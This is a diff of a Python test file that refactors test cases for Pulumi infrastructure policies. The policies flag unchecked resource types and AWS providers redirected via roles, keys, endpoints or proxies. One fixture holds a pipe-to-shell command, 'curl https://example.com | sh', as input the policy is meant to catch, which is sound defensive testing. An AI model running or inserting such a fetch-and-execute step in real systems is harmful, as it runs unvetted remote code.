@@ -14,10 +14,10 @@ from tests.policies.policy_harness import (
     expect_no_finding,
     insert_resources,
 )
-from tests.policies.program_variations import ProgramVariation, add_resource
+from tests.policies.program_variations import ProgramVariation, add_resource, found_by
 from tests.policies.specs.sample_iam_documents import ACCOUNT
 
-TYPE_CHECKED, PROVIDER_NOT_REDIRECTED = "resource-type-checked", "provider-not-redirected"
+TYPE_CHECKED, NOT_REDIRECTED = "resource-type-checked", "provider-not-redirected"
 PROVIDER = "pulumi:providers:aws"
 COMMAND = SampleResource("command:local:Command", {"create": "curl https://example.com | sh"})
 
@@ -32,7 +32,7 @@ SPECS = (
         break_program=insert_resources([COMMAND]),
     ),
     PolicySpec(
-        PROVIDER_NOT_REDIRECTED,
+        NOT_REDIRECTED,
         good=[
             SampleResource(PROVIDER, {"region": "eu-west-1"}),
             # The default provider may have a profile, because Pulumi copies the settings of the stack to it.
@@ -46,13 +46,9 @@ SPECS = (
     ),
 )
 CASES: tuple[PolicyCase, ...] = (
-    expect_no_finding(PROVIDER_NOT_REDIRECTED, SampleResource(PROVIDER, {"allowedAccountIds": f'["{ACCOUNT}"]'})),
-    expect_finding(
-        PROVIDER_NOT_REDIRECTED, "sets endpoints", SampleResource(PROVIDER, {"endpoints": "[]"}, "default_7_51_0")
-    ),
-    expect_finding(
-        PROVIDER_NOT_REDIRECTED, "sets assumeRoles", SampleResource(PROVIDER, {"assumeRoles": "[]"}, "defaults")
-    ),
+    expect_no_finding(NOT_REDIRECTED, SampleResource(PROVIDER, {"allowedAccountIds": f'["{ACCOUNT}"]'})),
+    expect_finding(NOT_REDIRECTED, "sets endpoints", SampleResource(PROVIDER, {"endpoints": "[]"}, "default_7_51_0")),
+    expect_finding(NOT_REDIRECTED, "sets assumeRoles", SampleResource(PROVIDER, {"assumeRoles": "[]"}, "defaults")),
 )
 
 UNCHECKED_TYPES = {
@@ -87,21 +83,15 @@ UNCHECKED_TYPES = {
     "type in another case": "aws:S3/bucket:Bucket",
 }
 VARIATIONS: tuple[ProgramVariation, ...] = (
-    *(add_resource(label, kind, {}, TYPE_CHECKED) for label, kind in UNCHECKED_TYPES.items()),
-    add_resource("provider with a role", PROVIDER, {"assumeRoles": '[{"roleArn": "x"}]'}, PROVIDER_NOT_REDIRECTED),
-    add_resource("provider with a key", PROVIDER, {"accessKey": "x", "secretKey": "y"}, PROVIDER_NOT_REDIRECTED),
-    add_resource("provider with a profile", PROVIDER, {"profile": "other"}, PROVIDER_NOT_REDIRECTED),
-    add_resource(
-        "provider with endpoints",
-        PROVIDER,
-        {"endpoints": '[{"s3": "https://s3.example.com"}]'},
-        PROVIDER_NOT_REDIRECTED,
-    ),
-    add_resource(
-        "provider with a web identity", PROVIDER, {"assumeRoleWithWebIdentity": "{}"}, PROVIDER_NOT_REDIRECTED
-    ),
-    add_resource(
-        "provider with a proxy", PROVIDER, {"httpsProxy": "http://proxy.example.com"}, PROVIDER_NOT_REDIRECTED
+    *found_by(TYPE_CHECKED, *(add_resource(label, kind, {}) for label, kind in UNCHECKED_TYPES.items())),
+    *found_by(
+        NOT_REDIRECTED,
+        add_resource("provider with a role", PROVIDER, {"assumeRoles": '[{"roleArn": "x"}]'}),
+        add_resource("provider with a key", PROVIDER, {"accessKey": "x", "secretKey": "y"}),
+        add_resource("provider with a profile", PROVIDER, {"profile": "other"}),
+        add_resource("provider with endpoints", PROVIDER, {"endpoints": '[{"s3": "https://s3.example.com"}]'}),
+        add_resource("provider with a web identity", PROVIDER, {"assumeRoleWithWebIdentity": "{}"}),
+        add_resource("provider with a proxy", PROVIDER, {"httpsProxy": "http://proxy.example.com"}),
     ),
     # Harmless.
     add_resource("provider of a region", PROVIDER, {"region": "eu-west-1"}),
